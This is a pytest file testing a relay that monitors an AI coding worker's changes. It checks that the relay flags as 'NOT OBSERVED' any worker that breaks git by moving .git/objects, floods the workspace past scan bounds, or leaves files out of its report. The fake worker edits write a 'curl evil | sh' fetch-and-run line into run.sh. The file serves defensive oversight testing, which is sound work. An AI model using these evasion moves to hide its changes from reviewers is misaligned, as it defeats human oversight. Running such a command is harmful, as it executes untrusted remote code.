"""A look after the run that the worker made fail, on a run without limits (relay/observe/blind.py).

The party: the worker. Its moves: make git fail after the run (``.git/objects`` moved away: ``bad object HEAD``), or
flood a workspace outside git past the walk's bound. Broke: the packet read SUCCESS, risk low, with only the files the
worker chose to report (one flag said the list was its claim). Now the packet says loudly that the change was not
observed (the first flag, risk high, every file's reason), and lists beside the report what the files' timestamps
show: the file it did not report is not lost with the look.
"""

from __future__ import annotations

import json
from pathlib import Path

import anyio
import pytest

from conftest import cli_main, make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario

pytestmark = pytest.mark.anyio

_REPORT = make_report(summary="Fixed the typo.", files_changed=["a.txt"], tests_passed=0, tests_run=False)


async def _run(tmp_path: Path, workspace: Path, edits: list[dict]) -> tuple[dict, dict[str, str]]:
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=_REPORT))
    env = relay_env(tmp_path / "data", agy)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(workspace)}))
    return packet, env


def _assert_loud(packet: dict) -> None:
    assert packet["changes"]["risk"] == "high", packet
    assert packet["flags"][0].startswith("NOT OBSERVED: the relay could not look at the change"), packet["flags"]
    targets = {t["file"]: t for t in packet["changes"]["review"]}
    assert "run.sh" in packet["changes"]["files"], packet  # not reported, seen by its timestamp
    assert targets["run.sh"]["reason"].startswith("the relay could not observe the change: changed during the run")
    assert targets["a.txt"]["reason"].startswith("the relay could not observe the change"), targets
    assert any("not in the worker's report" in f for f in packet["flags"]), packet["flags"]


async def test_a_worker_that_breaks_git_after_its_edits_gets_a_loud_unobserved_packet_in_every_door(tmp_path):
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "b.txt": "b\n"})
    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
             {"op": "delete", "path": "b.txt"},
             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
    packet, env = await _run(tmp_path, repo, edits)
    assert not (repo / ".git/objects").exists()  # the move happened: the test is not vacuous
    _assert_loud(packet)
    assert "b.txt" in packet["changes"]["files"], packet  # gone since the run started: the before index says it
    assert "b.txt, run.sh" in packet["flags"][1], packet["flags"]
    full = await anyio.to_thread.run_sync(cli_main, ["runs", "show", packet["run_id"], "--detail", "full"], env)
    assert "NOT OBSERVED" in full.stdout and "run.sh" in full.stdout, full.stdout
    async with memory_relay(env) as client:
        summary = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"]}))
    assert json.dumps(summary).count("NOT OBSERVED") >= 1 and summary["changes"]["risk"] == "high", summary


async def test_a_worker_that_floods_a_workspace_outside_git_past_the_walk_gets_a_loud_unobserved_packet(tmp_path,
                                                                                                        monkeypatch):
    import relay.observe.snapshot as snapshot

    monkeypatch.setattr(snapshot, "TREE_MAX_FILES", 30)  # the bound (50,000), lowered: the same move, smaller
    workspace = tmp_path / "plain"
    workspace.mkdir()
    (workspace / "a.txt").write_text("a\n", encoding="utf-8")
    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
             *({"op": "write", "path": f"gen/f{i}.txt", "content": f"{i}\n"} for i in range(40))]
    packet, _ = await _run(tmp_path, workspace, edits)
    _assert_loud(packet)
    assert packet["changes"]["count"] >= 42, packet


async def test_a_flood_past_the_timestamp_walks_bound_is_said_in_the_first_flag(tmp_path, monkeypatch):
    # The walk that stands in for the failed look is bounded (2,000 changed files): a worker that floods past it hides
    # what lies beyond; the first flag says the walk stopped, so the leader knows the list is not whole.
    import relay.observe.blind as blind

    monkeypatch.setattr(blind, "LIST_MAX", 10)  # the bound, lowered: the same move, smaller
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    edits = [*({"op": "write", "path": f"gen/f{i}.txt", "content": f"{i}\n"} for i in range(20)),
             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
    packet, _ = await _run(tmp_path, repo, edits)
    assert packet["flags"][0].startswith("NOT OBSERVED") and "the walk stopped after" in packet["flags"][0], packet


async def test_the_persons_own_edit_just_before_the_run_is_not_blamed_on_the_worker_when_the_look_fails(tmp_path,
                                                                                                    monkeypatch):
    # Broke: the timestamp listing counts files stamped up to the clock's slack before the snapshot, so the person's
    # edit of notes.md (and a new todo.txt) made just before the run was listed as "changed during the run", the
    # worker's. The slack is widened here so that "just before" does not depend on how fast the run starts.
    from relay.observe import blind
    monkeypatch.setattr(blind, "CLOCK_SLACK_NS", 60 * 10**9)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "notes.md": "notes\n"})
    (repo / "notes.md").write_text("the person's own edit\n", encoding="utf-8")
    (repo / "todo.txt").write_text("the person's new file\n", encoding="utf-8")
    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
    packet, _ = await _run(tmp_path, repo, edits)
    assert packet["flags"][0].startswith("NOT OBSERVED"), packet["flags"]
    files = packet["changes"]["files"]
    assert "run.sh" in files and "a.txt" in files, packet
    assert "notes.md" not in files and "todo.txt" not in files, packet
    assert "2 file(s) stamped in the run unchanged since the snapshot" in packet["flags"][0], packet["flags"]


async def test_a_long_git_error_does_not_cut_the_stamped_files_from_the_flag(tmp_path, monkeypatch):
    # CI rehearsal, session 47: the look failed on `git write-tree … error building trees` (git's words vary with which
    # command met the moved objects first), and the flag, cut at its end to fit the packet, lost the sentence saying two
    # files stamped in the run were the person's own, unchanged. What the list leaves out comes before git's words.
    from relay.observe import blind, changes
    from relay.observe.git import GitError

    monkeypatch.setattr(blind, "CLOCK_SLACK_NS", 60 * 10**9)

    def look_fails(*args, **kwargs):
        raise GitError("git write-tree exited 128: fatal: git-write-tree: error building trees " + "of the index " * 12)

    monkeypatch.setattr(changes, "_look", look_fails)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "notes.md": "notes\n"})
    (repo / "notes.md").write_text("the person's own edit\n", encoding="utf-8")
    (repo / "todo.txt").write_text("the person's new file\n", encoding="utf-8")
    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"}]
    packet, _ = await _run(tmp_path, repo, edits)
    assert packet["flags"][0].startswith("NOT OBSERVED"), packet["flags"]
    assert "2 file(s) stamped in the run unchanged since the snapshot" in packet["flags"][0], packet["flags"]
